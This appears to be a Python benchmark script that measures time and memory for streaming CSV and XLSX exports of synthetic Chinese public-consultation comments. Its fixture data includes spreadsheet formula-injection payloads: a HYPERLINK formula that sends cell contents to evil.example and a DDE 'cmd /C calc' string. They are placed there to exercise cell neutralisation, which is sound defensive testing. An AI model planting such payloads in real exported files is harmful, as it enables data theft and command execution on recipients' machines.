"""Prints how long exports take and how much memory they need; never asserts.

Run from the repository root: .venv/bin/python -m bench.exports [--rows-scale 0.1]
Each case runs in its own subprocess, so each peak RSS (ru_maxrss) belongs to one writer alone:
- csv: 1,000,000 rows x 11 columns through `csv_response` (Flask streaming response, BOM on), bytes drained
  as a WSGI server would; targets (reliability goal P4) <= 30 s, first byte <= 2 s, <= 100 MiB;
- xlsx: 100,000 rows x 11 columns through `write_xlsx` to a temp file; target (P5) <= 20 s.
Rows hold CJK comments, Beijing-time timestamps, numbers and formula-looking strings (every cell is neutralised).
"""

from __future__ import annotations

import argparse
import json
import os
import platform
import resource
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

HEADER = [
    "编号",
    "提交时间（北京时间）",
    "称呼",
    "所在街道",
    "年龄段",
    "满意度（0–10）",
    "关注的问题（多选）",
    "意见内容",
    "联系电话",
    "电子邮箱",
    "审核状态",
]
KINDS = ["number", "datetime", "text", "text", "text", "number", "text", "wrap", "text", "text", "text"]
NAMES = ["张先生", "李女士", "王阿姨", "赵师傅", "居民", "=SUM(A1:A9)", "@cmd", "陈同学"]
STREETS = ["幸福路街道", "和平街道", "建设大道街道", "光明里街道", "滨江街道"]
AGES = ["18岁以下", "18–29岁", "30–44岁", "45–59岁", "60岁及以上"]
TOPICS = ["停车位；垃圾分类", "加装电梯", "公交线路；学校招生；路灯", "-噪音", "绿化带；菜市场改造"]
COMMENTS = [
    "草案第{n}条关于停车位的规定不够具体，建议写明责任部门和完成时限。",
    "老年人不会用手机，办理渠道要保留线下窗口，我们小区有{n}位独居老人。",
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "+86 138 0013 {n:04d}，有问题请联系我。",
    "支持这个方案，尤其是垃圾分类部分，考虑得很周到。希望{n}个工作日内答复。",
    "＝cmd|' /C calc'!A0",
    "施工时间要避开中高考，幸福路附近有{n}所学校，晚上噪音影响孩子休息和学习。",
]
STATES = ["待审核", "已公开", "已隐藏"]
START = datetime(2024, 5, 1, tzinfo=UTC)
CASES = {"csv": 1_000_000, "xlsx": 100_000}


def rows(count: int) -> Iterator[list[Any]]:
    """`count` deterministic rows of 11 columns, made lazily as a database cursor would yield them."""
    for n in range(count):
        yield [
            n + 1,
            START + timedelta(seconds=7 * n),
            NAMES[n % len(NAMES)],
            STREETS[n % 5],
            AGES[(n // 5) % 5],
            n % 11,
            TOPICS[(n // 3) % len(TOPICS)],
            COMMENTS[n % len(COMMENTS)].format(n=n % 10_000),
            f"138{n:08d}" if n % 4 else f"+86138{n:08d}",
            f"resident{n}@example.cn",
            STATES[n % 3],
        ]


def peak_rss_mib() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024  # KiB on Linux


def run_csv(row_count: int) -> dict[str, float]:
    from flask import Flask

    from core.exports import csv_response

    app = Flask(__name__)

    @app.get("/export.csv")
    def export() -> Any:
        return csv_response("意见汇总.csv", HEADER, rows(row_count), bom=True)

    baseline = peak_rss_mib()
    started = time.perf_counter()
    response = app.test_client().get("/export.csv", buffered=False)
    size, first_byte = 0, None
    with open(os.devnull, "wb") as sink:
        for chunk in response.response:  # the WSGI body, drained chunk by chunk like gunicorn does
            if first_byte is None:
                first_byte = time.perf_counter() - started
            sink.write(chunk)
            size += len(chunk)
    response.close()
    return {
        "seconds": time.perf_counter() - started,
        "first_byte_s": first_byte or 0.0,
        "bytes": size,
        "baseline_mib": baseline,
    }


def run_xlsx(row_count: int) -> dict[str, float]:
    from core.exports import Sheet, write_xlsx

    baseline = peak_rss_mib()
    with tempfile.TemporaryDirectory() as directory:
        path = os.path.join(directory, "export.xlsx")
        started = time.perf_counter()
        write_xlsx(path, [Sheet("意见", HEADER, rows(row_count), kinds=KINDS)])
        seconds = time.perf_counter() - started
        size = os.path.getsize(path)
    return {"seconds": seconds, "bytes": size, "baseline_mib": baseline}


def child(case: str, row_count: int) -> None:
    result = {"csv": run_csv, "xlsx": run_xlsx}[case](row_count)
    result["peak_rss_mib"] = peak_rss_mib()
    print(json.dumps(result))


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--case", choices=CASES, help="run one case in this process (used by the parent)")
    parser.add_argument("--rows", type=int, help="rows for --case")
    parser.add_argument("--rows-scale", type=float, default=1.0, help="scale every case's rows (quick runs)")
    args = parser.parse_args()
    if args.case:
        child(args.case, args.rows)
        return

    print(f"Python {platform.python_version()} on {platform.machine()}, {os.cpu_count()} CPUs; one process per case")
    print(f"{'case':<6} {'rows':>10} {'time':>8} {'first byte':>11} {'peak RSS':>10} {'(imports)':>10} {'output':>9}")
    for case, full_rows in CASES.items():
        row_count = max(1, int(full_rows * args.rows_scale))
        command = [sys.executable, "-m", "bench.exports", "--case", case, "--rows", str(row_count)]
        result = json.loads(subprocess.run(command, check=True, capture_output=True, text=True).stdout)
        first_byte = f"{result['first_byte_s']:.3f} s" if "first_byte_s" in result else "-"
        print(
            f"{case:<6} {row_count:>10,} {result['seconds']:>6.1f} s {first_byte:>11} "
            f"{result['peak_rss_mib']:>6.0f} MiB {result['baseline_mib']:>6.0f} MiB {result['bytes'] / 1e6:>6.1f} MB"
        )
    print("Targets: csv 1 M rows <= 30 s, first byte <= 2 s, <= 100 MiB; xlsx 100 k rows <= 20 s.")


if __name__ == "__main__":
    main()
